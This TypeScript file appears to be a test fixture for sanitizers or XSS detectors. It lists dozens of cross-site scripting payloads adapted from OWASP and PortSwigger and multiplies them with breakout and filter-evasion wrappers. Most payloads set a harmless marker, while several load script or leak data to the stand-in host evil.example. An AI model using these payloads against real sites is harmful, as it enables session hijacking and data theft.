/**
 * Texts with which pages have taken over those who showed them: markup, handlers, addresses, styles, templates, entities, and characters that
 * hide or turn text. After the collections of OWASP ("XSS Filter Evasion") and PortSwigger, written anew and shortened; each sets
 * `window.taken` where it would run.
 */
const plain: readonly string[] = [
  '<script>taken=1</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=taken=1>',
  '<img src=x:x onerror="taken=1" style="position:fixed;inset:0">',
  '<svg onload=taken=1>',
  '<svg><script>taken=1</script></svg>',
  '<svg><animate onbegin=taken=1 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:taken=1"><text y=20>x</text></a></svg>',
  '<math><mtext><img src onerror=taken=1></mtext></math>',
  '<math href="javascript:taken=1">x</math>',
  '<iframe src="javascript:taken=1"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.taken=1&lt;/script&gt;"></iframe>',
  '<object data="javascript:taken=1"></object>',
  '<embed src="javascript:taken=1">',
  '<body onload=taken=1>',
  '<input autofocus onfocus=taken=1>',
  '<select autofocus onfocus=taken=1>',
  '<details open ontoggle=taken=1>x</details>',
  '<video><source onerror=taken=1></video>',
  '<audio src onerror=taken=1>',
  '<marquee onstart=taken=1>x</marquee>',
  '<form action="javascript:taken=1"><button>x</button></form>',
  '<button formaction="javascript:taken=1">x</button>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:taken=1">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{background:url(//evil.example/?leak)}</style>',
  '<div style="background:url(//evil.example/?leak)">x</div>',
  '<a href="javascript:taken=1">x</a>',
  '<a href="data:text/html,<script>taken=1</script>">x</a>',
  '<template><script>taken=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=taken=1>">',
  '<x-card onclick=taken=1>x</x-card>',
  '<xmp><img src=x onerror=taken=1></xmp>',
  '<textarea><img src=x onerror=taken=1></textarea>',
  '<!--><img src=x onerror=taken=1>-->',
  '<![CDATA[<img src=x onerror=taken=1>]]>',
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">taken=1</script>',
  'javascript:taken=1',
  'data:text/html;base64,PHNjcmlwdD50YWtlbj0xPC9zY3JpcHQ+',
  '{{constructor.constructor("taken=1")()}}',
  // A template's own sign, as text.
  '$' + '{taken=1}',
  '__proto__[taken]=1',
  'expression(taken=1)',
  '\u202e<img src=x onerror=taken=1>\u2066',
  '\u0000<scr\u0000ipt>taken=1</scr\u0000ipt>',
];

/** Ways of coming out of where a text stands, or past one who looks for it. */
const wraps: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"'>${text}`,
  (text) => `</title></textarea></style></script>${text}`,
  (text) => text.replace(/[a-z]/g, (letter, at: number) => (at % 2 === 0 ? letter.toUpperCase() : letter)),
  (text) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;'),
];

/** Every text in every wrapping. */
export const payloads: readonly string[] = plain.flatMap((text) => wraps.map((wrap) => wrap(text)));
